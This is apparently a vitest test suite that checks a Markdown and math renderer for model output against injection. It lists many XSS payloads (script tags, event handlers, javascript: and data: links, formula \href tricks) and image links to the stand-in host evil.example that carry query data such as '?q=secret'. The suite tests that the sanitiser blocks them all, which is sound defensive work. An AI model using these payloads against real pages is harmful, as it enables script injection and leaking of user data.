import { beforeAll, describe, expect, it } from 'vitest'
import { loadFormulas, renderMarkdown, withoutButtons } from './render-for-test'

const payloads = [
  // HTML, whole, broken and hidden in Markdown.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<img srcset="https://evil.example/p.png 2x">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=preload as=image href=https://evil.example/p.png>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=a><button>Go</button></form>',
  '<style>body{background:url(https://evil.example/p.png)}</style>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<video poster="https://evil.example/p.png"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src="x`<script>alert(1)</script>"`>',
  'text <b onmouseover=alert(1)>bold</b> text',
  '- <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '# <svg/onload=alert(1)>',
  // Links.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/api/session)',
  '[x](?fork=1)',
  '[x](#id)',
  '[x](intent://evil#Intent;end)',
  '[x](http:\\\\evil.example)',
  '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]\n\n[r]: data:text/html,x "t"',
  '<javascript:alert(1)>',
  '<vbscript:alert(1)>',
  '<xmpp:a@evil.example>',
  'xmpp:a@evil.example and ftp://evil.example/x',
  '[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>',
  '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
  // Images.
  '![x](https://evil.example/p.png?q=secret)',
  '![x](http://evil.example/p.png)',
  '![x](//evil.example/p.png)',
  '![x](/api/models)',
  '![x][i]\n\n[i]: https://evil.example/p.png',
  '[![x](https://evil.example/p.png)](https://ok.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '![" onerror="alert(1)](https://evil.example/p.png)',
  '![x](https://evil.example/p.png" onerror="alert(1))',
  // Formulas.
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlStyle{background:url(https://evil.example/p.png)}{x}$',
  '$\\htmlClass{md}{x}$',
  '$\\htmlId{a}{x}$',
  '$\\htmlData{a=b}{x}$',
  '$\\color{red;background:url(https://evil.example)}{x}$',
  '$$\n\\text{<script>alert(1)</script>}\n$$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
  '$$\n\\rule{1000000em}{1000000em}\n$$',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  // Code.
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onload=alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
]

const elements = new Set(
  `div span p a em strong del code pre ul ol li blockquote hr br h2 h3 h4 h5 h6 sup
   table thead tbody tr th td img svg path rect circle line
   math semantics annotation mrow mi mo mn ms mtext mspace mstyle mpadded menclose
   msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd`.split(/\s+/),
)
const attributes = new Set(
  `class href title target rel referrerpolicy alt src id tabindex role aria-label aria-hidden start
   data-wrapped data-done xmlns width height viewbox fill stroke stroke-width stroke-linecap
   stroke-linejoin d x y rx ry cx cy r x1 x2 y1 y2 style encoding mathcolor mathvariant
   display preserveaspectratio mathbackground voffset`.split(/\s+/),
)

function offences(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', rest = ''] of html.matchAll(
    /<([a-zA-Z][^\s/>]*)((?:"[^"]*"|[^">])*)>/g,
  )) {
    if (!elements.has(name.toLowerCase())) found.push(`<${name}>`)
    for (const [, key = '', value = ''] of rest.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)) {
      const attribute = key.toLowerCase()
      if (!attributes.has(attribute)) found.push(`<${name} ${key}>`)
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|#footnote-)/.test(value)) {
        found.push(`href ${value}`)
      }
      if (attribute === 'src' && !value.startsWith('data:image/')) found.push(`src ${value}`)
      if (attribute === 'style' && /url|expression|position/i.test(value)) found.push(value)
    }
  }
  return found
}

describe('what a model wrote', () => {
  beforeAll(loadFormulas)

  it.each(payloads)('neither runs nor loads anything: %s', payload => {
    for (const text of [payload, `before\n\n${payload}\n\nafter`, `- a\n- b ${payload}`]) {
      expect(offences(withoutButtons(renderMarkdown(text)))).toEqual([])
      expect(offences(withoutButtons(renderMarkdown(text, { streaming: true })))).toEqual([])
    }
  })

  it('is judged by a test that sees what it must not let through', () => {
    expect(offences('<p onclick="x"><script src="https://a">')).toHaveLength(3)
    expect(offences('<a href="javascript:x"><img src="https://a"/></a>')).toHaveLength(2)
  })

  it('shows HTML as the text it is', () => {
    const html = renderMarkdown('a <b>bold</b>\n\n<script>alert(1)</script>')
    expect(html).toContain('a &lt;b&gt;bold&lt;/b&gt;')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('opens links elsewhere, without a referrer and without trust', () => {
    const html = renderMarkdown('[x](https://a.example/?q=1)')
    expect(html).toContain('href="https://a.example/?q=1"')
    expect(html).toContain('target="_blank" rel="noopener noreferrer nofollow"')
    expect(html).toContain('referrerPolicy="no-referrer"')
  })

  it('shows the address of a link that cannot be followed', () => {
    expect(renderMarkdown('[x](javascript:alert(1))')).toContain('(javascript:alert(1))')
    expect(renderMarkdown('<ftp://a.example>')).toContain('ftp://a.example')
  })

  it('names a remote image with its whole address and loads nothing', () => {
    const html = renderMarkdown('![chart](https://a.example/p.png?q=secret)')
    expect(html).not.toContain('<img')
    expect(html).toContain('chart')
    expect(html).toContain('>https://a.example/p.png?q=secret<')
    expect(html).toContain('Open image in a new tab')
  })

  it('shows pixels that came with the text, but no SVG', () => {
    expect(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img')
    expect(renderMarkdown('![dot](data:image/svg+xml;base64,PHN2Zz4=)')).not.toContain('<img')
  })

  it('puts no link into a link', () => {
    const html = renderMarkdown('[![x](https://a.example/p.png)](https://b.example)')
    expect(html.match(/<a /g)).toHaveLength(1)
  })
})
